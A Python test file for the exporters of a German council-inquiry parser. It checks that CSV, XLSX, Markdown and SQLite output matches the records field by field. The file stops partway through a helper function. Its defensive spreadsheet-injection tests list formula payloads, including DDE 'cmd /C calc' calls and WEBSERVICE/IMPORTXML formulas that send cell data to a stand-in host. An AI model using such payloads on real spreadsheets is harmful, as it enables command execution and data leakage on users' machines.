"""Records in other tools' formats say the same as the records: every exporter is read back and compared field by field."""

import contextlib
import csv
import datetime as dt
import errno
import functools
import gc
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import BaseModel
from typer.testing import CliRunner, Result

from anfrage_parser import parse_file, parse_text
from anfrage_parser.cli import records as records_of
from anfrage_parser.cli.app import app
from anfrage_parser.cli.work import export
from anfrage_parser.errors import LimitError, NotAnInquiryError, NoTextError
from anfrage_parser.exporters import EXPORTERS, ExportOptions, table_xlsx
from anfrage_parser.exporters.cells import allowed, as_text, harmless
from anfrage_parser.exporters.columns import ANSWERS, FINDINGS, INQUIRIES, QUESTIONS, TABLES, WORDS, Table
from anfrage_parser.parse import parse_source
from anfrage_parser.readers import read_file
from anfrage_parser.record.build import as_dict, from_dict
from anfrage_parser.record.json_out import to_json, to_line
from anfrage_parser.record.schema import FindingRecord, Inquiry
from tests.command import GUARD, ROOT
from tests.payloads import PAYLOADS

RUN = CliRunner()
SAMPLES = sorted(p for p in (ROOT / "samples").iterdir() if p.suffix in (".txt", ".pdf"))
CORPUS = os.environ.get("ANFRAGE_CORPUS")
OPENS_FORMULA = tuple("=+-@\t\r\n\0")


def run(*words: object, code: int = 0, data: bytes = b"") -> Result:
    result = RUN.invoke(app, [str(word) for word in words], input=data)
    assert result.exit_code == code, (words, result.exit_code, result.stderr)
    return result


@pytest.fixture(scope="session")
def records() -> list[Inquiry]:
    """Those of all samples, with their evidence, and where there is a corpus, of 200 of its letters, from all its places."""
    found = [inquiry for path in SAMPLES for inquiry in parse_file(path)]
    if CORPUS:
        letters = [path for path in sorted(Path(CORPUS).rglob("*.txt")) if path.stat().st_size < 12_000]
        for path in letters[:: len(letters) // 200][:200]:
            with contextlib.suppress(NotAnInquiryError, NoTextError):
                found += parse_source(read_file(path))
        assert len(found) > 150
    assert len(found) >= 35
    return found


@pytest.fixture(scope="session")
def rows(records: list[Inquiry]) -> list[dict[str, Any]]:
    """The same as JSON: what the exports are held against."""
    return [json.loads(to_line(as_dict(record))) for record in records]


def exported(records: list[Inquiry], name: str, **options: Any) -> bytes:
    out = io.BytesIO()
    EXPORTERS[name].export(iter(records), out, ExportOptions(**options))
    return out.getvalue()


def cells(records: list[Inquiry], table: Table[Any]) -> list[list[str]]:
    """What people see: code words in German, "ja" and "nein"."""
    return [[allowed(as_text(value, "de")) for value in row] for record in records for row in table.cells(record, "de")]


def codes(records: list[Inquiry], table: Table[Any]) -> list[list[str]]:
    """What programs get."""
    return [[allowed(as_text(value, None)) for value in row] for record in records for row in table.cells(record)]


def printed_first(row: Iterable[Any], table: Table[Any]) -> list[Any]:
    """A row as a sheet has it: what is printed, then what is not."""
    both = list(zip(row, table.columns, strict=True))
    return [cell for paper in (True, False) for cell, column in both if column.paper is paper]


def read_back(data: bytes, preset: str) -> list[list[str]]:
    text = data.decode("utf-8-sig" if preset == "excel-de" else "utf-8", "strict")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if preset == "excel-de" else ",", strict=True))


@pytest.mark.parametrize("preset", ["excel-de", "rfc4180"])
@pytest.mark.parametrize("rows", ["questions", "inquiries", "answers"])
def test_csv_gives_the_texts_back(preset: str, rows: str, records: list[Inquiry]) -> None:
    data = exported(records, "csv", preset=preset, rows=rows)
    assert data.startswith(b"\xef\xbb\xbf") == (preset == "excel-de")
    head, *body = read_back(data, preset)
    table = TABLES[rows]  # type: ignore[index]
    assert head == [c.german if preset == "excel-de" else c.key for c in table.columns]
    wanted = cells(records, table) if preset == "excel-de" else codes(records, table)
    assert body == [[harmless(cell) for cell in row] for row in wanted]
    assert read_back(exported(records, "csv", preset=preset, rows=rows, raw=True), preset)[1:] == wanted
    if preset == "excel-de":
        assert re.match(r'"(?:[^"]|"")*";[0-9]+;"', data.decode("utf-8-sig").split("\r\n")[1]), "every text is quoted, no number is"


def text_of(value: Any) -> str:
    """A value of a record as it stands in a cell."""
    return "" if value is None else {True: "true", False: "false"}[value] if isinstance(value, bool) else str(value)


def named(people: list[dict[str, Any]]) -> str:
    return "; ".join(p["name"] + (f" ({p['role']})" if p["role"] else "") for p in people)


def of_inquiry(row: dict[str, Any]) -> dict[str, str]:
    """What a row about an inquiry has to hold, told from its JSON alone."""
    plain = (
        "number",
        "date",
        "party",
        "title",
        "paper_type",
        "document_type",
        "date_basis",
        "received",
        "addressee",
        "committee",
        "session_date",
    )
    more = ("agenda_item", "public", "place", "body", "preamble", "rationale", "responsible", "due", "answered_by")
    return {
        **{key: text_of(row[key]) for key in (*plain, *more)},
        **{f"refers_to.{key}": text_of((row["refers_to"] or {}).get(key)) for key in ("number", "date")},
        **{f"source.{key}": text_of(row["source"][key]) for key in ("name", "part", "sha256")},
        "askers": named(row["askers"]),
        "signatories": named(row["signatories"]),
        "questions": str(len(row["questions"])),
        "footnotes": "\n".join(f"{note['label']} {note['text']}" for note in row["footnotes"]),
        "findings": str(len([f for f in row["findings"] if f["severity"] in ("warning", "error")])),
    }


def of_question(row: dict[str, Any], question: dict[str, Any]) -> dict[str, str]:
    block = next(block for block in row["blocks"] if block["number"] == question["block"])
    joint = [answer["text"] for answer in row["answers"] if question["index"] in answer["questions"]]
    return {
        **of_inquiry(row),
        **{key: text_of(question[key]) for key in ("index", "label", "text", "tail", "block")},
        "answer": "\n\n".join(filter(None, [question["answer"], *joint])),
        "parts": "\n".join(f"{part['label']} {part['text']}" for part in question["parts"]),
        "lead_in": text_of(block["lead_in"]),
    }


def of_answers(row: dict[str, Any]) -> Iterator[dict[str, str]]:
    """What a table of answers has to hold of a record, each answer at its first question."""
    shared = [(answer["labels"], answer["questions"], answer["text"]) for answer in row["answers"]]
    found = [([q["label"]] if q["label"] else [], [q["index"]], q["answer"]) for q in row["questions"] if q["answer"]] + shared
    for labels, indexes, text in sorted(found, key=lambda one: min(one[1], default=10**6)):
        asked = [of_question(row, q) for q in row["questions"] if q["index"] in indexes]
        words = [words for q in asked for words in (q["text"], q["parts"], q["tail"]) if words]
        yield {**of_inquiry(row), "labels": ", ".join(labels), "question": "\n".join(words), "answer": text}


@pytest.mark.parametrize("wanted", ["questions", "inquiries", "answers"])
def test_every_cell_is_the_field_that_it_says(wanted: str, records: list[Inquiry], rows: list[dict[str, Any]]) -> None:
    head, *body = read_back(exported(records, "csv", preset="rfc4180", rows=wanted, raw=True), "rfc4180")
    truth = {
        "inquiries": [of_inquiry(row) for row in rows],
        "questions": [of_question(row, q) for row in rows for q in row["questions"]],
        "answers": [answer for row in rows for answer in of_answers(row)],
    }[wanted]
    assert [dict(zip(head, cells, strict=True)) for cells in body] == [{key: allowed(row[key]) for key in head} for row in truth]
    if wanted == "inquiries":
        shared = ("schema_version", "parties", "blocks", "unassigned", "source", "answers")  # in another column or table, or in none
        assert {key.partition(".")[0] for key in head} | {*shared} == {*rows[0]} - {"evidence"} | {"source"}


def fill(value: Any, payload: str, key: str = "") -> Any:
    """A record's values with a payload before every text."""
    if isinstance(value, dict):
        return {k: fill(v, payload, k) for k, v in value.items()}
    if isinstance(value, list):
        return [fill(v, payload, key) for v in value]
    kept = ("schema_version", "document_type", "date", "date_basis", "received", "session_date", "severity")
    return payload + value if isinstance(value, str) and key not in kept else value


@functools.cache
def brief() -> dict[str, Any]:
    row = as_dict(parse_text((ROOT / "samples/brief.txt").read_text(encoding="utf-8"))[0])
    row.pop("party")
    return row


def poisoned(payload: str) -> Inquiry:
    """A record in which every text begins with the payload."""
    return from_dict(fill(brief(), payload))


STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\x0b",
    "\x0c",
    "\x1f",
    "\x85",
    "\xa0",
    "\u2003",
    "\u2028",
    "\u3000",
    "\ufeff",
    "\0\t ",
    " \ufeff\n",
)
CALLS = (
    "1+1", "5", "49 721 123-0", "A1", "SUM(1)", "cmd|' /C calc'!A0", "cmd|'/c rechner'!_xlbgnm.A1", 'HYPERLINK("http://x.example","Hier")',
    'WEBSERVICE("http://x.example/?"&A1)', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")",
    "'=1", '"=1"', "=1", "-(-1)", "{=1}", "\t=1", "ABS(1);=2", 'x";=1;"', "x\r\n=1;2", "1\n+1\r@x",
)  # fmt: skip
NASTY = tuple(
    dict.fromkeys([
        *(before + start for before in BEFORE for start in STARTS),
        *(start + call for start in ("", *STARTS) for call in CALLS),
        "\t", "\r", "\0", "\n", ";", ",", '"', '""', "'", "''=1", "\x1b[31m=1", "a\0=1",
        *(payload for payload in PAYLOADS if not re.search("[\ud800-\udfff]", payload)),
    ])
)  # fmt: skip
"""Values that a spreadsheet might run, or that might break out of their cell."""


def test_no_cell_is_a_formula() -> None:
    records = [poisoned(payload).model_copy(update={"title": payload}) for payload in NASTY]  # before every text, and as the whole of one
    assert len(NASTY) > 300
    for preset in ("excel-de", "rfc4180"):
        for wanted in ("questions", "inquiries"):
            head, *body = read_back(exported(records, "csv", preset=preset, rows=wanted), preset)
            assert len(body) >= len(records) and all(len(row) == len(head) for row in body)
            found = [
                cell
                for row in body
                for cell in row
                if cell[:1] in OPENS_FORMULA or cell.lstrip(" \t\r\n\0\ufeff").startswith(OPENS_FORMULA)
            ]
            assert [cell for cell in found if cell] == []
            assert not [cell for row in body for cell in row if re.match(r"\s*[＝＋－＠]", cell)]
    book = openpyxl.load_workbook(io.BytesIO(exported(records, "xlsx")), read_only=True)
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


CODES = {
    "document_type": ("inquiry_with_answer", "Anfrage mit Antwort", "Inquiry with answer"),
    "date_basis": ("received", "Eingang", "receipt"),
    "public": (True, "ja", "yes"),
}


@pytest.mark.parametrize("language", ["de", "en"])
@pytest.mark.parametrize("name", ["excel-de", "rfc4180", "xlsx"])
def test_code_words_are_for_programs(name: str, language: str) -> None:
    """People read words of their language, programs the same codes in every language."""
    record = from_dict({**brief(), **{key: code for key, (code, *_) in CODES.items()}, "received": "2024-05-03", "date": "2024-05-03"})
    at = [[column.key for column in INQUIRIES.columns].index(key) for key in CODES]
    if name == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(exported([record], "xlsx", language=language)))
        keys = printed_first([column.key for column in INQUIRIES.columns], INQUIRIES)
        values = dict(zip(keys, (cell.value for cell in list(book.worksheets[0].iter_rows())[1]), strict=True))
        row = [values[column.key] for column in INQUIRIES.columns]
        severities = {cells[2].value for cells in list(book.worksheets[3].iter_rows())[1:]}
        assert severities and severities <= ({"Fehler", "Warnung", "Hinweis"} if language == "de" else {"Error", "Warning", "Note"})
    else:
        row = read_back(exported([record], "csv", preset=name, rows="inquiries", language=language), name)[1]
    people = 1 if language == "de" else 2
    wanted = [("true" if code is True else code) if name == "rfc4180" else (code, *words)[people] for code, *words in CODES.values()]
    assert [row[place] for place in at] == wanted


def test_every_code_word_has_words() -> None:
    kinds: dict[str, type[BaseModel]] = {"document_type": Inquiry, "date_basis": Inquiry, "severity": FindingRecord}
    for key, model in kinds.items():
        allowed_ones = json.dumps(model.model_json_schema()["properties"][key])
        assert set(re.findall(r'"enum": \[([^]]*)\]', allowed_ones)[0].replace('"', "").split(", ")) == set(WORDS[key])


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ("a;=1+1", '"a;=1+1"'), ("a; b", '"a; b"'), ("a,b", '"a,b"'), ('a "b"', '"a ""b"""'), ("a\nb", '"a\nb"'), ("a b", "a b"), ("", ""),
        ("=1;=2", '"\'=1;=2"'), (";", '";"'),
    ],
)  # fmt: skip
def test_what_is_quoted_for_programs(title: str, cell: str) -> None:
    """Commas, quotes and line ends; semicolons, since spreadsheets that part cells by both would find cells within the cell."""
    data = exported([from_dict({**brief(), "title": title})], "csv", preset="rfc4180", rows="inquiries").decode()
    assert f",{cell}," in data
    assert read_back(data.encode(), "rfc4180")[1][5] == harmless(title)


def shown(value: Any) -> str:
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    return "" if value is None else str(value)


def test_a_workbook_shows_the_same(records: list[Inquiry]) -> None:
    data = exported(records, "xlsx")
    assert data == exported(records, "xlsx"), "the same records give the same bytes"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Anfragen", "Fragen", "Antworten", "Hinweise"]
    tables: tuple[Table[Any], ...] = (INQUIRIES, QUESTIONS, ANSWERS, FINDINGS)
    for sheet, table in zip(book, tables, strict=True):
        head, *body = [[shown(value) for value in row] for row in sheet.iter_rows(values_only=True)]
        assert head == printed_first([column.german for column in table.columns], table)
        assert [[unescaped(cell) for cell in row] for row in body] == [printed_first(row, table) for row in cells(records, table)]
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    first = next(record for record in records if record.date and record.number)
    row = next(row for row in book["Anfragen"].iter_rows(min_row=2) if row[0].value == first.source.name)
    assert row[2].is_date and row[2].number_format == "dd.mm.yyyy" and row[1].data_type == "s"
    english = openpyxl.load_workbook(io.BytesIO(exported(records[:1], "xlsx", language="en")))
    assert english.sheetnames == ["Inquiries", "Questions", "Answers", "Findings"]


def unescaped(cell: str) -> str:
    """Openpyxl leaves what the format escapes ("_x005F_") as it is."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), cell)


def test_what_a_workbook_cannot_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(table_xlsx, "MOST_ROWS", 6)
    short = parse_text("Anfrage\n\nWir fragen:\n\n1. Wann?\n2. Wie?\n")[0]
    assert exported([short], "xlsx")
    with pytest.raises(LimitError, match="Zeilen"):
        exported([short, short], "xlsx")


@settings(max_examples=200 if os.environ.get("ANFRAGE_SOAK") else 20, deadline=None)
@given(st.lists(st.text(max_size=60), min_size=1, max_size=20))
def test_any_text_survives(texts: list[str]) -> None:
    records = [poisoned(re.sub("[\ud800-\udfff]", "", text) + "x") for text in texts]
    for preset in ("excel-de", "rfc4180"):
        assert read_back(exported(records, "csv", preset=preset, raw=True), preset)[1:] == codes(records, QUESTIONS)
    sheet = openpyxl.load_workbook(io.BytesIO(exported(records, "xlsx")), read_only=True)["Fragen"]
    assert [[unescaped(shown(v)) for v in row] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        [unescaped(cell) for cell in printed_first(row, QUESTIONS)] for row in cells(records, QUESTIONS)
    ]


def paragraphs(written: bytes) -> list[str]:
    """The lines of a Markdown text as they will be read, without its marks."""
    lines = [re.sub(r"^#+ ", "", line) for line in written.decode("utf-8").split("\n")]
    return [re.sub(r"\\(.)", r"\1", line) for line in lines if line]


def joint(answer: dict[str, Any]) -> str:
    return f"**Antwort ({', '.join(answer['labels'])}):** {answer['text']}" if answer["labels"] else f"**Antwort:** {answer['text']}"


DAYS = ("date", "received", "session_date", "due", "refers_to.date")


def said(row: dict[str, Any]) -> list[str]:
    """All that a record says, in the order of the text."""
    labels = {
        "number": "Nummer", "date": "Datum", "received": "Eingang", "party": "Fraktion", "askers": "Fragesteller", "title": "Titel",
        "addressee": "Empfänger", "committee": "Gremium", "session_date": "Sitzung", "agenda_item": "TOP", "public": "Öffentlich",
        "body": "Körperschaft", "place": "Ort", "responsible": "Zuständig", "due": "Frist",
        "refers_to.number": "Zu Anfrage", "refers_to.date": "Anfrage vom", "answered_by": "Antwort von",
    }  # fmt: skip
    values = of_inquiry(row) | {"public": {None: "", True: "ja", False: "nein"}[row["public"]]}
    values |= {key: re.sub(r"^(\d{4})-(\d\d)-(\d\d)$", r"\3.\2.\1", values[key]) for key in DAYS}
    out = [row["title"] or row["paper_type"] or row["source"]["name"]]
    out += [f"- **{label}:** {values[key]}" for key, label in labels.items() if values[key]]
    out += ["Vorbemerkung", row["preamble"]] if row["preamble"] else []
    for block in row["blocks"]:
        out += [block["heading"] or "Fragen", block["intro"], block["lead_in"]]
        for q in row["questions"]:
            if q["block"] == block["number"]:
                out += [f"{q['label']} {q['text']}" if q["label"] else q["text"], *(f"{p['label']} {p['text']}" for p in q["parts"])]
                out += [q["tail"], f"**Antwort:** {q['answer']}" if q["answer"] else None]
                out += [joint(answer) for answer in row["answers"] if max(answer["questions"], default=0) == q["index"]]
    out += [joint(answer) for answer in row["answers"] if not answer["questions"]]
    out += ["Begründung", row["rationale"]] if row["rationale"] else []
    out += ["Fußnoten", *(f"{note['label']} {note['text']}" for note in row["footnotes"])] if row["footnotes"] else []
    out += ["Unterschriften", named(row["signatories"])] if row["signatories"] else []
    return [line for text in out if text for line in allowed(text).split("\n") if line]


def test_markdown_says_all_fields_in_order(records: list[Inquiry], rows: list[dict[str, Any]]) -> None:
    for record, row in zip(records, rows, strict=True):
        assert paragraphs(exported([record], "markdown")) == said(row)
    assert exported(records[:3], "markdown").count(b"\n---\n") == 2


TO_ESCAPE = (
    "Rechte &copy; &#169; &#xA9; an R&D", "Text\n===\nmehr", "Text\n---\nmehr", "Text\n-\nmehr", "Text\n=  \nmehr", "---", "===", "- - -",
    "Text\n    eingerückt", "Text\n\n    kein Code\n\n\tauch nicht", "1.", "+", "1) ja\n2) nein", "# nein", "<b>fett</b> *kursiv* `so`",
    "[a](b) ![c](d) | ~~weg~~", "Ende\\\nneu", "> zitiert", "* * *\n___", "-" * 300, "Text\n" + "=" * 300,
)  # fmt: skip


@pytest.mark.parametrize("text", TO_ESCAPE)
def test_nothing_acts_in_markdown(text: str) -> None:
    """Read by a parser, all of it is text again, and nothing of it a heading, a list or a rule."""
    row = as_dict(parse_text("Anfrage\n\nVorwort.\n\nWir fragen:\n\nWarum?\n")[0])
    row.pop("party")
    record = from_dict({**row, "preamble": text, "rationale": text, "title": "T", "questions": [{**row["questions"][0], "answer": text}]})
    tokens = MarkdownIt("commonmark").enable("table").parse(exported([record], "markdown").decode())
    assert {token.tag for token in tokens if token.type.endswith("_open")} == {"h1", "h2", "p", "ul", "li"}
    assert [t.tag for t in tokens if t.type == "heading_open"] == ["h1", "h2", "h2", "h2"]
    assert not [t for t in tokens if t.type in ("code_block", "fence", "hr", "html_block")]
    inline = [child for token in tokens for child in token.children or ()]
    assert {child.type for child in inline} <= {"text", "softbreak", "hardbreak", "strong_open", "strong_close", "text_special"}
    shown = " ".join(child.content for child in inline)
    for line in (line.strip() for line in text.split("\n") if line):
        assert "".join(shown.split()).count("".join(line.split())) >= 3, shown


def test_markdown_loses_no_question_and_names_answers_and_signatures() -> None:
    row = json.loads(json.dumps(brief()))
    row["questions"][0]["answer"] = "Bald."
    row |= {"blocks": [], "place": "Auental", "signatories": [{"name": "Ole Steinkamp", "role": "Vorsitzender", "party": None}]}
    text = exported([from_dict(row)], "markdown").decode()
    assert all(f"{question['text']}" in text.replace("\\", "") for question in row["questions"])
    assert "\n\n**Antwort:** Bald.\n" in text and "- **Ort:** Auental\n" in text
    assert text.endswith("## Unterschriften\n\nOle Steinkamp (Vorsitzender)\n")
    english = exported([from_dict(row)], "markdown", language="en").decode()
    assert "**Answer:** Bald." in english and "## Signatories" in english


def test_lines_are_the_records(records: list[Inquiry]) -> None:
    rows = [json.loads(line) for line in exported(records, "jsonl").splitlines()]
    assert [from_dict(row) for row in rows] == records
    assert sum("evidence" in row for row in rows) >= 35


def database(path: Path) -> dict[str, list[dict[str, Any]]]:
    """All rows of all tables."""
    with contextlib.closing(sqlite3.connect(path)) as base:
        base.row_factory = sqlite3.Row
        tables = ("documents", "inquiries", "questions", "parties", "people", "findings", "texts")
        return {name: [dict(row) for row in base.execute(f"SELECT * FROM {name}")] for name in tables}


def sorted_keys(row: dict[str, Any]) -> dict[str, Any]:
    return dict(sorted(row.items()))


def test_a_database_holds_every_field(records: list[Inquiry], rows: list[dict[str, Any]], tmp_path: Path) -> None:
    path = tmp_path / "a.sqlite"
    EXPORTERS["sqlite"].export_to(iter(records), path, ExportOptions())
    tables = database(path)
    by_text = {row["text_row"]: json.loads(row["record"]) for row in tables["inquiries"]}
    assert [by_text[number] for number in sorted(by_text)] == [json.loads(line) for line in exported(records, "jsonl").splitlines()]
    keys = [(row["document"], row["part"]) for row in sorted(tables["inquiries"], key=lambda row: int(row["text_row"]))]
    at = dict(zip(keys, rows, strict=True))
    assert len(at) == len(rows)
    for row in tables["inquiries"]:
        record = at[row["document"], row["part"]]
        for key in {*row} & {*record}:
            assert (json.loads(row[key]) if key == "footnotes" and row[key] else row[key]) == record[key], key
    wanted: dict[str, list[dict[str, Any]]] = {"questions": [], "parties": [], "people": [], "findings": []}
    for (document, part), record in at.items():
        place = {"document": document, "part": part}
        lead_ins = {block["number"]: block["lead_in"] for block in record["blocks"]}
        wanted["questions"] += [{**place, **q, "lead_in": lead_ins[q["block"]]} for q in record["questions"]]
        wanted["parties"] += [{**place, "position": n, "party": name} for n, name in enumerate(record["parties"])]
        for kind, people in (("asker", record["askers"]), ("signatory", record["signatories"])):
            wanted["people"] += [{**place, "kind": kind, "position": n, **person} for n, person in enumerate(people)]
        kept = ("code", "severity", "field", "message", "line", "page")
        wanted["findings"] += [{**place, "position": n, **{k: f[k] for k in kept}} for n, f in enumerate(record["findings"])]
    for name, expected in wanted.items():
        found = [{**row, "parts": json.loads(row["parts"])} if name == "questions" else row for row in tables[name]]
        assert sorted(map(to_line, map(sorted_keys, found))) == sorted(map(to_line, map(sorted_keys, expected))), name
    assert {(d["name"], d["sha256"]) for d in tables["documents"]} == {(r["source"]["name"], r["source"]["sha256"]) for r in rows}
    assert [t["title"] for t in tables["texts"]] == [record["title"] for record in rows]


@pytest.fixture(scope="session")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The same records in all the ways in which records are kept."""
    folder = tmp_path_factory.mktemp("kept")
    (folder / "in").mkdir()
    for name in ("brief.txt", "mainzer-formular.txt", "brief-zwei-seiten.pdf"):
        (folder / "in" / name).write_bytes((ROOT / "samples" / name).read_bytes())
    (folder / "in/antrag.txt").write_text("ANTRAG\n\nDer Rat beschließt, den Weg zu sanieren.\n", encoding="utf-8")
    for out in ("aus", "aus.jsonl", "aus.sqlite"):
        RUN.invoke(app, ["batch", str(folder / "in"), "-o", str(folder / out), "-j", "1"])
    rows = [json.loads(line) for line in (folder / "aus.jsonl").read_bytes().splitlines()]
    (folder / "liste.json").write_bytes(to_json([row for row in rows if "error" not in row]))
    yield folder


def comparable(tables: dict[str, list[dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
    """Without what only a batch knows: where a document lay and by what options it was read, and documents that gave no record."""
    documents = [{k: v for k, v in row.items() if k not in ("origin", "fingerprint")} for row in tables["documents"] if not row["error"]]
    return {**tables, "documents": documents}


def test_the_same_database_as_a_batch_writes(kept: Path, tmp_path: Path) -> None:
    for source in ("aus.jsonl", "aus", "aus.sqlite"):
        path = tmp_path / f"{source}.db"
        assert "3 Datensätze" in run("export", kept / source, "-o", path).stderr
        assert comparable(database(path)) == comparable(database(kept / "aus.sqlite"))
    one, other = tmp_path / "aus.db", tmp_path / "aus.jsonl.db"
    with contextlib.closing(sqlite3.connect(one)) as base, contextlib.closing(sqlite3.connect(kept / "aus.sqlite")) as batch:
        script = "SELECT type, name, sql FROM sqlite_master ORDER BY name"
        assert base.execute(script).fetchall() == batch.execute(script).fetchall()
        assert base.execute("SELECT document FROM texts WHERE texts MATCH 'verwaltung*'").fetchall()
    assert one.read_bytes() == other.read_bytes(), "the same records give the same bytes"
    run("batch", kept / "in", "-o", one, "-j", "1")
    after = database(one)
    assert {row["fingerprint"] for row in after["documents"]} == {row["fingerprint"] for row in database(kept / "aus.sqlite")["documents"]}
    assert [row["record"] for row in after["inquiries"]] == [row["record"] for row in database(kept / "aus.sqlite")["inquiries"]]


def test_documents_of_one_name_or_content(tmp_path: Path) -> None:
    record = from_dict(brief())

    def named(name: str, sha256: str, part: int = 1) -> Inquiry:
        return record.model_copy(update={"source": record.source.model_copy(update={"name": name, "sha256": sha256 * 64, "part": part})})

    found = [
        named("a", "1"),
        named("a", "1", 2),
        named("a", "2"),
        named("b\n", "1"),
        named("a", "1"),
        named("a", "2", 7),
        named("c", "3", 2),
    ]
    written = []
    for folder in ("x", "y"):
        (tmp_path / folder).mkdir()
        EXPORTERS["sqlite"].export_to(iter(found), tmp_path / folder / "a.db", ExportOptions())
        written.append(database(tmp_path / folder / "a.db"))
    assert written[0] == written[1]
    documents = {row["key"]: row for row in written[0]["documents"]}
    first = [key for key, row in documents.items() if row["state"] == "done"]
    assert len(documents) == 6 and len(first) == 3 and {"a", "c"} < {*first}
    assert [(row["name"], row["duplicate_of"]) for row in documents.values() if row["state"] == "duplicate"] == [
        (row["name"], next(k for k in first if documents[k]["sha256"] == row["sha256"]))
        for row in documents.values()
        if row["state"] == "duplicate"
    ]
    assert sorted((row["document"].partition("~")[0], row["part"]) for row in written[0]["inquiries"]) == [
        ("a", 1), ("a", 1), ("a", 1), ("a", 2), ("a", 7), ("b_", 1), ("c", 2),
    ]  # fmt: skip


def test_many_documents_of_one_content(tmp_path: Path) -> None:
    """More than a transaction holds, and no name twice."""
    EXPORTERS["sqlite"].export_to((from_dict(brief()) for _ in range(200)), tmp_path / "a.db", ExportOptions())
    states = [row["state"] for row in database(tmp_path / "a.db")["documents"]]
    assert (len(states), states.count("done"), states.count("duplicate")) == (200, 1, 199)


def test_a_database_goes_to_a_file(kept: Path, tmp_path: Path) -> None:
    assert "braucht eine Datei" in run("export", kept / "aus.jsonl", "--to", "sqlite", "-o", "-", code=2).stderr
    target = tmp_path / "a.sqlite"
    run("export", kept / "in/antrag.txt", "-o", target, code=6)
    run("export", kept / "aus.jsonl", "-o", tmp_path / "fehlt" / "a.sqlite", code=10)
    assert not [*tmp_path.iterdir()]
    run("export", kept / "aus.jsonl", "-o", target)
    before = target.read_bytes()
    run("export", kept / "aus.jsonl", "-o", target, code=10)
    (tmp_path / "a.sqlite-wal").write_bytes(b"")
    assert "ein anderer Lauf" in run("export", kept / "aus.jsonl", "-o", target, "--force", code=10).stderr
    (tmp_path / "a.sqlite-wal").unlink()
    run("export", kept / "in/brief.txt", "-o", target, "--force")
    assert before != target.read_bytes() and [path.name for path in tmp_path.iterdir()] == ["a.sqlite"]


@pytest.mark.skipif(shutil.which("prlimit") is None, reason="prlimit is not installed")
def test_a_full_disk_leaves_no_database(records: list[Inquiry], tmp_path: Path) -> None:
    (tmp_path / "alle.jsonl").write_bytes(exported(records * 4, "jsonl"))
    command = ["prlimit", "--fsize=300000", sys.executable, "-m", "anfrage_parser", "export", "alle.jsonl", "-o", "a.sqlite"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False)
    assert done.returncode == 10 and len(done.stderr.splitlines()) == 1, done.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["alle.jsonl"]


@pytest.mark.skipif(shutil.which("prlimit") is None, reason="prlimit is not installed")
@pytest.mark.parametrize("target", ["a.xlsx", "-"])
@pytest.mark.parametrize("size", [0, 1_000, 60_000])
def test_no_room_for_temporary_files(target: str, size: int, records: list[Inquiry], tmp_path: Path) -> None:
    (tmp_path / "alle.jsonl").write_bytes(exported(records[:40] * 4, "jsonl"))
    words = [sys.executable, "-m", "anfrage_parser", "export", "alle.jsonl", "--to", "xlsx", "-o", target]
    done = subprocess.run(["prlimit", f"--fsize={size}", *words], cwd=tmp_path, capture_output=True, check=False)
    assert (done.returncode, done.stdout) == (10, b"") and len(done.stderr.splitlines()) == 1, done.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["alle.jsonl"]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this platform")
@pytest.mark.parametrize("name", ["csv", "jsonl", "markdown", "xlsx"])
def test_a_long_export_for_a_pipe_finds_the_disk_full(name: str, kept: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "IN_MEMORY", 1_000)
    assert run("export", kept / "aus.jsonl", "--to", name, "-o", "-").stdout_bytes
    monkeypatch.setattr(tempfile, "TemporaryFile", lambda **options: Path("/dev/full").open("w+b"))  # noqa: SIM115  closed by whoever takes it
    done = run("export", kept / "aus.jsonl", "--to", name, "-o", "-", code=10)
    assert done.stdout == "" and len(done.stderr.splitlines()) == 1
    assert "der Ordner für temporäre Dateien ist voll" in done.stderr and "TMPDIR" in done.stderr


class Small(io.BytesIO):
    """A disk with so many bytes."""

    room = 0

    def write(self, data: Any) -> int:
        if self.tell() + len(data) > self.room:
            raise OSError(errno.ENOSPC, "full")
        return super().write(data)


@pytest.mark.parametrize("room", [0, 100, 3_000, 9_000])
def test_a_workbook_on_a_full_disk_complains_once(room: int, records: list[Inquiry]) -> None:
    out = Small()
    out.room = room
    with pytest.raises(OSError, match="full") as raised:
        EXPORTERS["xlsx"].export(iter(records[:30]), out, ExportOptions())
    assert raised.value.errno == errno.ENOSPC
    del raised
    gc.collect()  # what is let go complains here, and pytest hears it


OFFICE, TABLE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text"))


def words_in(node: ET.Element) -> str:
    """The text of a cell in OpenDocument: paragraphs are its lines; blanks, tabs and breaks are elements."""
    if node.tag == TEXT + "s":
        return " " * int(node.get(TEXT + "c", 1)) + (node.tail or "")
    whole = {TEXT + "tab": "\t", TEXT + "line-break": "\n"}.get(node.tag, node.text or "")
    return whole + "".join(map(words_in, node)) + ("" if node.tag == TEXT + "p" else node.tail or "")


def opened_by_libreoffice(book: Path) -> Iterator[tuple[str, list[list[str]]]]:
    """Each sheet and its cells, as LibreOffice shows them; none of them a formula or a link."""
